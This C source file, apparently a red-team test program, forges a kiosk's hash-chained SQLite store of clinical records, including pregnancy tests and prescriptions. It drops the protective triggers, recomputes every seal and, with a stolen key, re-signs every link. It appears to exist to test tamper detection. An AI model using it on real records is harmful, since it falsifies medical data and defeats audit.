/*
 * forge: the red-team attacker of issue #16, as a program using the
 * documented algorithm (store-seal.c): after the database was edited with
 * the sqlite3 shell, recompute every seal of the chain in seq order (every
 * kind of link: sessions, verifications, pregnancy tests, flag
 * acknowledgements, may prescribe) so that the chain holds again; with a key file (an attacker who holds the
 * kiosk's secret key), also sign every link again.
 *
 * Usage: forge DB [KEYFILE]   (the triggers are dropped first)
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "identity.h"
#include "store-int.h"
#include "xmalloc.h"

/* Where each kind of link keeps its seal (enum store_link_kind). */
static const char *const forge_table[STORE_LINK_KIND_N] = {
	[STORE_LINK_SESSION] = "sessions",
	[STORE_LINK_VERIFICATION] = "verifications",
	[STORE_LINK_TEST] = "pregnancy_tests",
	[STORE_LINK_FLAG_ACK] = "flag_acks",
	[STORE_LINK_PRESCRIPTION] = "prescriptions",
};

struct forge_link {
	struct store_link_info l;
};

struct forge {
	struct forge_link *v;
	size_t n, cap;
};

static int
forge_collect(const struct store_link_info *l, void *ctx)
{
	struct forge *f = ctx;

	if (f->n == f->cap) {
		f->cap = f->cap ? 2 * f->cap : 64;
		f->v = xreallocarray(f->v, f->cap, sizeof *f->v);
	}
	f->v[f->n++].l = *l;
	return 0;
}

static void
forge_exec(struct store *st, const char *sql)
{
	char *err = NULL;

	if (store_test_exec(st, sql, &err) != 0) {
		fprintf(stderr, "forge: %s: %s\n", sql, err);
		exit(1);
	}
}

int
main(int argc, char **argv)
{
	struct store_opts o = { .flags = STORE_NO_RECOVER };
	struct identity id;
	struct forge f = { 0 };
	struct store *st;
	char *err = NULL, prev[65] = "";

	if (argc < 2) {
		fprintf(stderr, "usage: forge DB [KEYFILE]\n");
		return 2;
	}
	if (argc > 2 && identity_load(argv[2], false, &id, &err) != 0) {
		fprintf(stderr, "forge: %s\n", err);
		return 1;
	}
	if ((st = store_open(argv[1], &o, &err)) == NULL) {
		fprintf(stderr, "forge: %s\n", err);
		return 1;
	}
	forge_exec(st, "DROP TRIGGER IF EXISTS sessions_sealed;"
		   "DROP TRIGGER IF EXISTS verifications_no_update;"
		   "DROP TRIGGER IF EXISTS pregnancy_tests_no_update;"
		   "DROP TRIGGER IF EXISTS flag_acks_no_update;"
		   "DROP TRIGGER IF EXISTS prescriptions_no_update;"
		   "DROP TRIGGER IF EXISTS link_signatures_no_delete;");
	if (store_each_link(st, 0, forge_collect, &f, &err) < 0) {
		fprintf(stderr, "forge: %s\n", err);
		return 1;
	}
	forge_exec(st, "BEGIN");
	if (argc > 2)
		forge_exec(st, "DELETE FROM link_signatures");
	for (size_t i = 0; i < f.n; i++) {
		struct store_link_info *l = &f.v[i].l;
		struct store_session s;
		char seal[65], *canon, *sql;
		size_t len;

		store_session_init(&s);
		canon = store_link_canonical(st, l, &s, &len, &err);
		if (canon == NULL) {
			fprintf(stderr, "forge: %s\n", err);
			return 1;
		}
		store_seal_canonical(prev, canon, len, l->seq, seal);
		sql = xasprintf("UPDATE %s SET seal_prev = '%s', seal_hash ="
				" '%s' WHERE seal_seq = %lld",
				forge_table[l->kind],
				prev, seal, (long long)l->seq);
		forge_exec(st, sql);
		free(sql);
		if (argc > 2) {
			char sig[IDENTITY_SIG_HEX];

			identity_sign_link(&id, l->seq, seal, sig);
			sql = xasprintf("INSERT INTO link_signatures VALUES("
					"%lld, '%s', '%s', '%s')",
					(long long)l->seq, seal, id.pk_hex,
					sig);
			forge_exec(st, sql);
			free(sql);
		}
		memcpy(prev, seal, 65);
		store_session_done(&s);
	}
	forge_exec(st, "COMMIT");
	printf("forged: %zu links sealed again%s\n", f.n,
	       argc > 2 ? " and signed" : "");
	store_close(st);
	free(f.v);
	return 0;
}
